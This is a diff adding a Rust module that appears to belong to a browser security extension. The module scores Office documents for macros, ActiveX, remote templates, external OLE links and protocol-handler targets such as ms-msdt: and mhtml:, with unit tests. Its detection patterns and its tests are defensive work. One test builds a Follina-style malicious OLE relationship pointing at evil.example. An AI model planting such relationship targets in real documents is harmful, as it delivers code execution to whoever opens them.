@@ -0,0 +1,167 @@
+// wasm-feature/crates/vigilant-core/src/office.rs
+// Browser Vigilant — OOXML (docx/xlsx/pptx) macro and remote-template indicators
+
+use crate::json::Json;
+use crate::score::{combine, url_risk};
+use crate::verdict::Verdict;
+use crate::zip;
+
+const PART_LIMIT: usize = 1 << 20;
+
+/// Attributes of every `<tag …>` element in an XML part (no namespaces, no DTDs).
+pub(crate) fn xml_elements(xml: &str, tag: &str) -> Vec<Vec<(String, String)>> {
+    let open = format!("<{}", tag);
+    let mut out = Vec::new();
+    let mut i = 0;
+    while let Some(p) = xml[i..].find(&open).map(|p| p + i) {
+        i = p + open.len();
+        if !xml[i..].starts_with([' ', '\t', '\n', '\r', '/', '>']) { continue; }
+        let end = xml[i..].find('>').map(|e| e + i).unwrap_or(xml.len());
+        out.push(attributes(&xml[i..end]));
+        i = end;
+    }
+    out
+}
+
+fn attributes(s: &str) -> Vec<(String, String)> {
+    let mut out = Vec::new();
+    let mut rest = s;
+    while let Some(eq) = rest.find('=') {
+        let key = rest[..eq].trim().trim_start_matches('/').to_string();
+        let after = rest[eq + 1..].trim_start();
+        let Some(q) = after.chars().next().filter(|c| *c == '"' || *c == '\'') else { break };
+        let Some(close) = after[1..].find(q) else { break };
+        out.push((key.rsplit(|c: char| c.is_whitespace()).next().unwrap_or("").to_string(),
+                  xml_unescape(&after[1..1 + close])));
+        rest = &after[close + 2..];
+    }
+    out
+}
+
+fn xml_unescape(v: &str) -> String {
+    v.replace("&quot;", "\"").replace("&apos;", "'").replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")
+}
+
+fn attr<'a>(attrs: &'a [(String, String)], key: &str) -> &'a str {
+    attrs.iter().find(|(k, _)| k == key).map(|(_, v)| v.as_str()).unwrap_or("")
+}
+
+/// Scan an OOXML container. Returns `{ is_ooxml, macros, macro_content_type,
+/// remote_templates, external_ole, external_links, activex, embedded_objects,
+/// flags, score, verdict }`.
+pub fn office_report(bytes: &[u8]) -> Json {
+    let list = zip::entries(bytes);
+    let is_ooxml = list.iter().any(|e| e.name == "[Content_Types].xml");
+    if !is_ooxml {
+        return Json::obj().with("is_ooxml", false).with("score", 0.0f32).with("verdict", Verdict::Allow.as_str());
+    }
+    let mut flags: Vec<&'static str> = Vec::new();
+    let mut risk = 0.0f32;
+
+    let macros = list.iter().any(|e| e.name.to_lowercase().ends_with("vbaproject.bin"));
+    let content_types = zip::read_named(bytes, &list, "[Content_Types].xml", PART_LIMIT)
+        .map(|b| String::from_utf8_lossy(&b).to_lowercase()).unwrap_or_default();
+    let macro_ct = content_types.contains("macroenabled") || content_types.contains("vbaproject");
+    if macros { flags.push("vba_project"); risk += 0.5; }
+    if macro_ct && !macros { flags.push("macro_content_type"); risk += 0.2; }
+    let activex = list.iter().any(|e| e.name.contains("/activeX/"));
+    if activex { flags.push("activex_controls"); risk += 0.3; }
+    let embedded = list.iter().filter(|e| e.name.contains("/embeddings/")).count();
+    if embedded > 0 { flags.push("embedded_objects"); risk += 0.1; }
+
+    let (mut templates, mut ole, mut links): (Vec<String>, Vec<String>, Vec<String>) = Default::default();
+    for e in list.iter().filter(|e| e.name.ends_with(".rels")) {
+        let Some(data) = zip::read(bytes, e, PART_LIMIT) else { continue };
+        let xml = String::from_utf8_lossy(&data);
+        for rel in xml_elements(&xml, "Relationship") {
+            if !attr(&rel, "TargetMode").eq_ignore_ascii_case("external") { continue; }
+            let kind = attr(&rel, "Type").rsplit('/').next().unwrap_or("").to_lowercase();
+            let target = attr(&rel, "Target").to_string();
+            match kind.as_str() {
+                "attachedtemplate" | "frame" | "subdocument" => templates.push(target),
+                "oleobject" | "package" => ole.push(target),
+                _ => links.push(target),
+            }
+        }
+    }
+    // Handlers that launch code straight from a relationship target (Follina et al.).
+    let all_targets = templates.iter().chain(&ole).chain(&links);
+    if all_targets.clone().any(|t| {
+        let t = t.to_lowercase();
+        t.starts_with("ms-msdt:") || t.starts_with("mhtml:") || t.starts_with("search-ms:") || t.contains("!x-usc:")
+    }) {
+        flags.push("protocol_handler_target");
+        risk += 0.8;
+    }
+    if !templates.is_empty() { flags.push("remote_template"); risk += 0.6; }
+    if !ole.is_empty() { flags.push("external_ole_link"); risk += 0.5; }
+    let worst = all_targets.filter(|t| t.contains("://")).map(|t| url_risk(t)).fold(0.0f32, f32::max);
+    let total = combine(risk.min(1.0), worst);
+
+    Json::obj()
+        .with("is_ooxml", true)
+        .with("macros", macros)
+        .with("macro_content_type", macro_ct)
+        .with("remote_templates", templates)
+        .with("external_ole", ole)
+        .with("external_links", links)
+        .with("activex", activex)
+        .with("embedded_objects", embedded)
+        .with("flags", flags)
+        .with("score", total)
+        .with("verdict", Verdict::from_score(total).as_str())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::zip::tests::stored;
+
+    const TYPES: &[u8] = br#"<Types><Default Extension="xml" ContentType="application/xml"/></Types>"#;
+
+    fn rels(kind: &str, target: &str) -> Vec<u8> {
+        format!(r#"<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" Target="{}" TargetMode="External"/></Relationships>"#, kind, target).into_bytes()
+    }
+
+    fn flags(r: &Json) -> Vec<String> { r.str_list("flags") }
+
+    #[test]
+    fn a_zip_without_content_types_is_not_ooxml() {
+        let r = office_report(&stored(&[("readme.txt", b"hi")]));
+        assert_eq!(r.get("is_ooxml").and_then(Json::as_bool), Some(false));
+        assert_eq!(r.str_field("verdict"), "allow");
+    }
+
+    #[test]
+    fn a_plain_document_is_clean() {
+        let r = office_report(&stored(&[("[Content_Types].xml", TYPES), ("word/document.xml", b"<w:document/>")]));
+        assert!(flags(&r).is_empty());
+        assert_eq!(r.str_field("verdict"), "allow");
+    }
+
+    #[test]
+    fn macros_and_activex_are_flagged() {
+        let r = office_report(&stored(&[("[Content_Types].xml", TYPES), ("word/vbaProject.bin", b"\xd0\xcf"), ("word/activeX/activeX1.xml", b"<ax/>")]));
+        assert_eq!(flags(&r), ["vba_project", "activex_controls"]);
+        assert_eq!(r.get("macros").and_then(Json::as_bool), Some(true));
+    }
+
+    #[test]
+    fn external_relationships_are_sorted_by_type() {
+        let template = rels("attachedTemplate", "http://198.51.100.7/t.dotm");
+        let r = office_report(&stored(&[("[Content_Types].xml", TYPES), ("word/_rels/settings.xml.rels", &template)]));
+        assert_eq!(flags(&r), ["remote_template"]);
+        assert_eq!(r.str_list("remote_templates"), ["http://198.51.100.7/t.dotm"]);
+
+        let follina = rels("oleObject", "mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html");
+        let r = office_report(&stored(&[("[Content_Types].xml", TYPES), ("word/_rels/document.xml.rels", &follina)]));
+        assert_eq!(flags(&r), ["protocol_handler_target", "external_ole_link"]);
+        assert_eq!(r.str_field("verdict"), "block");
+    }
+
+    #[test]
+    fn attributes_are_unescaped() {
+        let els = xml_elements(r#"<a/><Rel Target="a?x=1&amp;y=&quot;2&quot;" Mode='x'/><Relx Target="no"/>"#, "Rel");
+        assert_eq!(els, [vec![("Target".to_string(), "a?x=1&y=\"2\"".to_string()), ("Mode".to_string(), "x".to_string())]]);
+    }
+}